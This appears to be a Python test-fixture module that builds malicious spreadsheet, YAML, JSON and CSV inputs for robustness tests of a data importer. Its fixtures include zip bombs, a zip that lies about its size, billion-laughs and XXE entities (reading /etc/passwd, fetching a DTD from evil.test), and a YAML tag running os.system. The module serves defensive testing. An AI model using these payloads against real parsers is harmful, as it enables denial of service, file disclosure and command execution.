"""Small files that grow, files without an end, and nesting: what each of them is offered to."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl

SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
BOOK, STYLES = "xl/workbook.xml", "xl/styles.xml"
_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_HEADER = "gebied;periode;indicator;waarde;ondergrens;bovengrens;n;status\n"
_LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
)
_FILE = b"<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>"
_PARAMETER = b"<!DOCTYPE x SYSTEM 'http://evil.test/x.dtd'>"


def book(**parts: bytes) -> bytes:
    """A workbook with other content for some parts, named without folder and suffix."""
    made, changed = io.BytesIO(), io.BytesIO()
    plain = openpyxl.Workbook()
    plain.active.append(_HEADER.strip().split(";"))
    plain.active.append(["GM0301", 2024, "eenzaam", 31.5])
    plain.save(made)
    names = {"sheet": SHEET, "strings": STRINGS, "book": BOOK, "styles": STYLES}
    new = {names[name]: content for name, content in parts.items()}
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as out:
        for name in dict.fromkeys([*old.namelist(), *new]):
            out.writestr(name, new[name] if name in new else old.read(name))
    return changed.getvalue()


def sheet(body: bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    """A sheet with this in its data."""
    return b"%s<worksheet %s><sheetData>%s</sheetData>%s</worksheet>" % (before, _NS, body, after)


def _lying() -> bytes:
    """A part that the directory says to be small and that is not."""
    whole = bytearray(book(sheet=sheet(b"<row><c><v>1</v></c></row>" + b" " * 50_000_000)))
    at = whole.rindex(SHEET.encode())
    # the unpacked size in the central directory, 22 bytes before the name
    whole[at - 22 : at - 18] = (1000).to_bytes(4, "little")
    return bytes(whole)


def _nested(levels: int) -> bytes:
    """An archive in an archive in an archive."""
    content = b"0" * 1_000_000
    for _level in range(levels):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(5):
                archive.writestr(f"{n}.zip", content)
        content = made.getvalue()
    return content


def _many_sheets(n: int) -> bytes:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (k, k) for k in range(1, n))
    rel = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return book(book=b"<workbook %s %s><sheets>%s</sheets></workbook>" % (_NS, rel, sheets))


def _noise(n: int) -> Iterator[bytes]:
    """Numbers that no packer can pack well."""
    one = 1
    for _k in range(n):
        one = one * 6364136223846793005 % 2**61
        yield b"%x" % one


def _strings(n: int) -> bytes:
    items = b"".join(b"<si><t>%s</t></si>" % one for one in _noise(n))
    return book(
        strings=b"<sst %s>%s</sst>" % (_NS, items),
        sheet=sheet(b'<row><c t="s"><v>0</v></c></row>'),
    )


def _cells(n: int, cell: bytes) -> bytes:
    """`n` rows of 8 cells."""
    return sheet(b"<row>%s</row>" % (cell * 8) * n)


BOOKS: dict[str, Callable[[], bytes]] = {
    "a cell in the last corner": lambda: book(
        sheet=sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "a part that unpacks a thousandfold": lambda: book(sheet=sheet(b"", after=b" " * 90_000_000)),
    "a part that is larger than it says": _lying,
    "an archive in an archive": lambda: _nested(6),
    "fifty thousand sheets": lambda: _many_sheets(50_000),
    "a million texts": lambda: _strings(1_000_000),
    "a long text that stands in a million cells": lambda: book(
        strings=b"<sst %s><si><t>%s</t></si></sst>" % (_NS, b"".join(_noise(600))),
        sheet=_cells(120_000, b'<c t="s"><v>0</v></c>'),
    ),
    "entities of entities, in the sheet": lambda: book(
        sheet=_LAUGHS + sheet(b'<row><c t="inlineStr"><is><t>&a9;</t></is></c></row>')
    ),
    "entities of entities, in the texts": lambda: book(
        strings=_LAUGHS + b"<sst %s><si><t>&a9;</t></si></sst>" % _NS
    ),
    "entities of entities, in the styles": lambda: book(
        styles=_LAUGHS + b"<styleSheet %s>&a9;</styleSheet>" % _NS
    ),
    "a file as an entity": lambda: book(
        sheet=_FILE + sheet(b'<row><c t="inlineStr"><is><t>&f;</t></is></c></row>')
    ),
    "a document type elsewhere": lambda: book(sheet=_PARAMETER + sheet(b"")),
    "a million elements in each other": lambda: book(
        sheet=sheet(b"<a>" * 1_000_000 + b"</a>" * 1_000_000)
    ),
    "ten million empty cells": lambda: book(sheet=_cells(1_250_000, b"<c/>")),
    "a million merged cells": lambda: book(
        sheet=sheet(
            b"<row><c><v>1</v></c></row>",
            after=b"<mergeCells>%s</mergeCells>" % (b'<mergeCell ref="A1:B2"/>' * 1_000_000),
        )
    ),
    "a million attributes": lambda: book(
        sheet=sheet(b"<row %s/>" % b" ".join(b'a%d=""' % n for n in range(1_000_000)))
    ),
    "a million styles": lambda: book(
        styles=b"<styleSheet %s><cellXfs>%s</cellXfs></styleSheet>" % (_NS, b"<xf/>" * 1_000_000)
    ),
    "a million names": lambda: book(
        book=b"<workbook %s><sheets/><definedNames>%s</definedNames></workbook>"
        % (_NS, b'<definedName name="a">1</definedName>' * 1_000_000)
    ),
}
_MAP = "schema_version: 1\nmunicipality: {name: Z, area: GM0301}\n"
YAMLS: dict[str, Callable[[], bytes]] = {
    "aliases of aliases": lambda: (
        "a0: &a0 [x]\n"
        + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    ).encode(),
    "an alias of itself": lambda: b"themes: &a [*a]\n",
    "a million lists in each other": lambda: b"a: " + b"[" * 1_000_000,
    "a thousand maps in each other": lambda: b"{a: " * 1_000 + b"}" * 1_000,
    "indents without an end": lambda: "".join(" " * n + "a:\n" for n in range(2_000)).encode(),
    "a number of a million figures": lambda: (
        _MAP + "interventions: [{id: i, theme: t, name: I, budget: " + "9" * 1_000_000 + "}]\n"
    ).encode(),
    "a number that is too large": lambda: (
        _MAP + "interventions: [{id: i, theme: t, name: I, budget: 1e999999999}]\n"
    ).encode(),
    "a million lines of keys": lambda: "".join(f"a{n}: 1\n" for n in range(400_000)).encode(),
    "a million keys of one name": lambda: b"a: 1\n" * 900_000,
    "a million themes": lambda: (_MAP + "themes:\n" + "- {id: a, name: b}\n" * 240_000).encode(),
    "a text of five million letters": lambda: (_MAP + "themes: [{id: a, name: '" + "x" * 4_900_000 + "'}]\n").encode(),
    "a tag that makes something": lambda: b"themes: !!python/object/apply:os.system ['id']\n",
    "larger than may be": lambda: b"# \n" * 2_000_000,
}  # fmt: skip
JSONS: dict[str, Callable[[], bytes]] = {
    "lists in each other": lambda: b"[" * 4_000 + b"]" * 4_000,
    "objects in each other": lambda: b'{"a":' * 1_500 + b"1" + b"}" * 1_500,
    "a number of thousands of figures": lambda: b'{"code": ' + b"9" * 7_900 + b"}",
    "a number that is too large": lambda: b'{"value": 1e999999, "sequence": 1e999999}',
    "a thousand keys": lambda: b"{%s}" % b",".join(b'"a%d":1' % n for n in range(900)),
}
CSVS: dict[str, Callable[[], bytes]] = {
    "one line of 20 MB": lambda: _HEADER.encode() + b"x" * 19_000_000,
    "a million columns": lambda: b";".join(b"c%d" % n for n in range(1_000_000)) + b"\n",
    "a million columns of figures": lambda: (
        _HEADER.encode() + b"GM0301;2024" + b";1" * 1_000_000 + b"\n"
    ),
    "a quotation mark that is never closed": lambda: (
        _HEADER.encode() + b'GM0301;2024;"a;1;;;;\n' + b"GM0301;2024;a;1;;;;\n" * 800_000
    ),
    "nothing but quotation marks": lambda: _HEADER.encode() + b'"' * 19_000_000 + b"\n",
    "nothing but NUL": lambda: b"\0" * 19_000_000,
    "NUL after the head": lambda: (
        _HEADER.encode() + b"GM0301;2024;a;1;;;;\n" * 5_000 + b"\0" * 15_000_000
    ),
    "nothing but ends of lines": lambda: b"\n" * 19_000_000,
    "nothing but delimiters": lambda: b";" * 19_000_000 + b"\n",
    "rows of nothing": lambda: _HEADER.encode() + b";;;;;;;\n" * 2_300_000,
    "lists in each other": lambda: b"[" * 9_000_000 + b"]" * 9_000_000,
    "UTF-16 without an end": lambda: b"\xff\xfe" + b"\x00\xd8" * 9_000_000,
    "packed": lambda: b"\x1f\x8b\x08" + b"\0" * 1_000_000,
}


def write(folder: Path, content: bytes, suffix: str) -> Path:
    """The bomb as a file."""
    path = folder / f"bom{suffix}"
    path.write_bytes(content)
    return path
